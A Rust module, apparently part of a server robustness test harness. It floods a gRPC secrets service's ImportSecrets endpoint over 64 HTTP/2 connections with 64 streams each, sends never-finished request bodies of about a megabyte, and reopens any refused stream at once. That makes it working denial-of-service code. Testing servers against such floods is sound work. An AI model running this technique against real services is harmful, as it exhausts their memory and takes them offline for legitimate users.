//! Requests of a member whose bodies begin and never end.

use bytes::Bytes;
use futures_util::future::join_all;
use h2::client::{self, SendRequest};
use http::Request;
use tokio::net::TcpStream;

use super::repeat::over_streams;
use crate::target::Target;

const CONNECTIONS: usize = 64;
/// As many as a connection may have.
const BODIES_PER_CONNECTION: usize = 64;
/// What is sent of each: nearly a whole message of the largest size, whose prefix says that it is the largest.
const SENT_BYTES: usize = 1_000_000;
const PREFIX: [u8; 5] = [0, 0, 0x10, 0, 0];

pub(super) async fn run(target: Target) {
    let token = target.member.token.clone();
    over_streams(&target, CONNECTIONS, move |stream| hoard(stream, token.clone())).await;
}

async fn hoard(stream: TcpStream, token: String) {
    let Ok((requests, connection)) = client::handshake(stream).await else { return };
    let connection = tokio::spawn(connection);
    let bodies = (0..BODIES_PER_CONNECTION).map(|_| hoard_again(&requests, &token));
    tokio::select! {
        _ = connection => {}
        _ = join_all(bodies) => {}
    }
}

/// Begins another body when one was refused.
async fn hoard_again(requests: &SendRequest<Bytes>, token: &str) {
    while begin(requests, token).await.is_some() {}
}

async fn begin(requests: &SendRequest<Bytes>, token: &str) -> Option<()> {
    let request = Request::post("http://server/secretsapi.v1.SecretService/ImportSecrets")
        .header("content-type", "application/grpc")
        .header("te", "trailers")
        .header("authorization", format!("Bearer {token}"))
        .body(())
        .ok()?;
    let (response, mut body) = requests.clone().ready().await.ok()?.send_request(request, false).ok()?;
    body.send_data(Bytes::from_static(&PREFIX), false).ok()?;
    body.send_data(vec![b'#'; SENT_BYTES].into(), false).ok()?;
    let _ = response.await;
    Some(())
}
